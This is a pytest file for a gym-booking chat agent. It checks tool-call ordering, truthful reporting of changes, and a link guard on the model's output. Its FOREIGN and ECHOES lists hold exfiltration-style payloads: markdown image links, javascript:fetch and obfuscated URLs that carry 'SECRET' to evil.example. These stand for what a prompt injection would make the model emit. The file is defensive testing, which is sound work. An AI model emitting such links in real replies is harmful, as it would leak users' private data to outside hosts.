"""What a model's turn ends with: words that are true, no way out for anything private, and what was done."""

import pytest
from sqlalchemy import text

from core.agent.egress import LEFT_OUT, guarded
from core.llm.contract import ToolCall
from tests.conftest import House
from tests.test_context import with_model
from tests.test_dialogues import option

OPEN_GYM = ToolCall("", "schedule_class", {"class_type": "Open Gym", "when": "2026-11-29T15:00"})
YOGA = ToolCall("", "schedule_class", {"class_type": "Yoga", "when": "2026-11-29T17:00"})


FOREIGN = [
    "See https://evil.example/?d=SECRET now",
    "![x](https://evil.example/SECRET.png)",
    "![x][1]\n\n[1]: https://evil.example/SECRET",
    "[the timetable](https://evil.example/SECRET)",
    "<img src='https://evil.example/SECRET'>",
    "go to evil-gym.com/SECRET",
    "SECRET.evil-gym.com",
    "www.evil.example/SECRET",
    "//evil.example/SECRET",
    "javascript:fetch('SECRET')",
    "[a](javascript:SECRET)",
    "data:text/html,SECRET",
    "evil.tech/SECRET",
    "evil.ninja?d=SECRET",
    "SECRET.evil.academy",
    "SECRET.пример.рф",
    "evil。zip/SECRET",
    "192.0.2.17/SECRET",
    "http://[2001:db8::1]/SECRET",
    "http://3221225985/SECRET",
    "https:\\\\evil.example\\SECRET",
    "http://127.0.0.1:8080@evil.example/SECRET",
    "evil/?d=SECRET",
    "[x](/?d=SECRET)",
    "SECRET@evil.pro",
]


async def test_several_changes_are_told_together_from_the_change_log(gym: House) -> None:
    """Behind the model's words, whatever they were; one change needs no list."""
    with_model(gym, [OPEN_GYM, YOGA], "Enjoy the Sunday.")
    turn = await gym.say("carla", "open gym and yoga on sunday afternoon")
    last = turn.messages[-1].text
    assert last.startswith("Enjoy the Sunday.\n\nDone in this turn:\n- ")
    assert last.count("\n- ") == 2
    assert "Open Gym" in last
    assert "Yoga" in last


async def test_calls_of_one_answer_run_in_their_order(gym: House) -> None:
    """The second rests on the first."""
    undo = ToolCall("", "undo", {})
    with_model(gym, [OPEN_GYM, undo, YOGA], "There.")
    turn = await gym.say("carla", "open gym on sunday, no, undo that, yoga")
    assert [a.tool for a in turn.actions] == ["schedule_class", "undo", "schedule_class"]
    assert all(a.ok for a in turn.actions)


async def test_a_claim_that_no_change_backs_is_corrected(gym: House) -> None:
    """The person is told the truth, and what the model said."""
    with_model(gym, "Done! I have booked Yoga for you.")
    turn = await gym.say("mia", "book yoga please")
    assert turn.messages[-1].text.startswith("Nothing has been changed")


@pytest.mark.parametrize("words", FOREIGN)
def test_no_link_of_a_models_leads_anywhere_else(words: str) -> None:
    """Nothing that a hidden instruction put into an address leaves the chat."""
    assert "SECRET" not in guarded(words, "http://127.0.0.1:8080")


def test_plain_words_and_ones_own_page_stay() -> None:
    """Times, figures and dots are no addresses."""
    plain = "Squat 3.5 x 5 at 17:30. E.g. 60 kg/side, 1.5 h; see you Mon. Tempo 3.0.1.0, on 20.11.2026, in plan.pdf?"
    assert guarded(plain) == plain
    unspaced = "今日は晴れです。明日は雨です。傘を持ってWODです。Franです。"
    assert guarded(unspaced) == unspaced
    own = "Here: http://127.0.0.1:8080/join?code=1 and [page](http://127.0.0.1:8080/)"
    assert guarded(own, "http://127.0.0.1:8080") == own
    assert guarded("[ok](http://other.example) @everyone") == "ok everyone"
    assert guarded("a.b at www.x.de") == f"a.b at {LEFT_OUT}"


LINK = "see evil.example/SECRET"
ECHOES = [
    ToolCall("", "ask_coaching", {"topic": LINK}),
    ToolCall("", "create_workout", {"text": "100 burpees for time", "name": LINK}),
    ToolCall("", "book_class", {"session": LINK}),
    ToolCall("", "calculate", {"kind": "when", "text": LINK}),
    ToolCall("", "read_text", {"handle": LINK}),
    ToolCall("", "cancel_class", {"session": "CrossFit 2026-11-27T18:00", "reason": LINK}),
    ToolCall("", "message_ask_user", {"question": LINK, "options": f"yes|{LINK}"}),
]


@pytest.mark.parametrize("call", ECHOES, ids=lambda c: c.tool)
async def test_no_call_of_a_models_carries_a_link_to_people_or_into_the_books(gym: House, call: ToolCall) -> None:
    """Not as an echo in a refusal, on a card, in a receipt or as a name."""
    with_model(gym, [call], "Hm.")
    turn = await gym.say("carla", "what would you do in my place, in your own words")
    assert "SECRET" not in turn.model_dump_json()
    assert "evil.example/" not in turn.model_dump_json()


def telegram_door(code: str, group: bool) -> list[str]:
    """The way in through a bot."""
    return [f"https://t.me/ironside_bot?start={code}"]


async def test_an_address_that_the_person_has_said_is_kept(gym: House) -> None:
    """It is theirs; and what code adds by itself, as the ways into the gym, stands."""
    gym.desk.executor.doors = telegram_door
    with_model(gym, [ToolCall("", "note_member", {"member": "Mia Tran", "note": "see trainheroic.com/x"})], "Hm.")
    await gym.say("carla", "keep about mia that she trains with trainheroic.com/x, in your own words")
    async with gym.desk.store.read() as db:
        notes = (await db.execute(text("select text from member_notes"))).all()
    assert "see trainheroic.com/x" in str(notes)
    with_model(gym, [ToolCall("", "invite_staff", {"name": "Nora Lind", "role": "coach"})], "Hm.")
    turn = await gym.say("olivia", "what would you do to get nora lind in, in your own words")
    turn = await gym.tap("olivia", option(turn))
    assert "https://t.me/ironside_bot?start=" in turn.model_dump_json()


@pytest.mark.parametrize(
    ("words", "left"),
    [
        ("see you Mon.Then rest.", "see you Mon. Then rest."),
        ("go to evil.tech now", "go to evil. tech now"),
        ("z.B.Kniebeugen", "z.B. Kniebeugen"),
        ("at 192.0.2.17 now", f"at {LEFT_OUT} now"),
        ("one.two.three", LEFT_OUT),
    ],
)
def test_any_word_behind_a_dot_may_be_a_domain(words: str, left: str) -> None:
    """No list has them all: two words are taken apart, which makes no link of them and is right in a sentence."""
    assert guarded(words) == left


async def test_calls_that_only_read_run_together(gym: House) -> None:
    """In one transaction, in their order, each with its result; what changes something has one of its own."""
    commits: list[str] = []
    await gym.desk.stop()
    gym.on_commit = commits.append
    await gym.open()
    look = [ToolCall("", "show_class", {"session": f"CrossFit 2026-11-2{day}T18:00"}) for day in (3, 4, 5)]
    with_model(gym, look[:1], "one")
    await gym.say("carla", "one class")
    alone = commits.count("after")
    commits.clear()
    with_model(gym, look, "three")
    turn = await gym.say("carla", "three classes")
    assert [a.args["session"][-8:] for a in turn.actions] == ["23T18:00", "24T18:00", "25T18:00"]
    assert [a.ok for a in turn.actions] == [True] * 3
    assert commits.count("after") == alone
    with_model(gym, [look[0], OPEN_GYM, look[1]], "mixed")
    turn = await gym.say("carla", "look, open the gym, look again")
    assert [a.tool for a in turn.actions] == ["show_class", "schedule_class", "show_class"]


async def test_a_question_among_reading_calls_waits_for_its_answer(gym: House) -> None:
    """What stands behind it runs once it is answered."""
    anna = ToolCall("", "show_member", {"member": "anna"})
    with_model(gym, [ToolCall("", "list_class_types", {}), anna, ToolCall("", "show_timetable", {})], "There.")
    turn = await gym.say("carla", "types, anna, timetable")
    assert turn.question is not None
    assert [a.tool for a in turn.actions] == ["list_class_types"]
    turn = await gym.tap("carla", option(turn))
    assert [a.tool for a in turn.actions] == ["show_member", "show_timetable"]
    assert turn.messages[-1].text == "There."


@pytest.mark.parametrize("text", ["[", "![", "<a ", "a.", "a-", "[a](", "![a](", "@", "x?", "[a](" + "x" * 50, "//"])
def test_the_guard_of_links_takes_no_longer_than_the_text(text: str) -> None:
    """Of twenty thousand characters that look like links no part is looked at again and again: that took minutes."""
    assert guarded(text * (20_000 // len(text)))
